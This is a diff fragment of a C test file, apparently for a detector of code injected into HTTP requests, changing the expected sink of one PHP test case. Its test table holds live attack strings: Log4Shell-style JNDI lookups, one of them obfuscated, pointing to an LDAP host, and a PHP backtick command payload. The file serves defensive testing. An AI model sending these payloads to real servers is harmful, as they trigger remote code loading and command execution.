@@ -153,7 +153,7 @@ static void code_in_headers_does_not_hang_on_the_resource(void **state)
 		  SINK_HEADER },
 		{ HEAD("/?a=${jndi:ldap://192.0.2.1/x}"), LANGUAGE_JNDI, "${jndi:ldap://192.0.2.1/x}", CONTEXT_ALONE,
 		  SINK_HEADER },
-		{ HEAD("/?a=%3C?=`id`?%3E"), LANGUAGE_PHP, "<?=`id`?>", CONTEXT_ALONE, SINK_RESOURCE },
+		{ HEAD("/?a=%3C?=`id`?%3E"), LANGUAGE_PHP, "<?=`id`?>", CONTEXT_ALONE, SINK_HEADER },
 		{ "GET / HTTP/1.1\r\nUser-Agent: ${${::-j}${lower:n}d${env:NO:-i}:ldap://h/x}\r\n\r\n", LANGUAGE_JNDI,
 		  "${${::-j}${lower:n}d${env:NO:-i}:ldap://h/x}", CONTEXT_ALONE, SINK_HEADER },
 		/* a log that is included later runs it; in a body only the resource does */
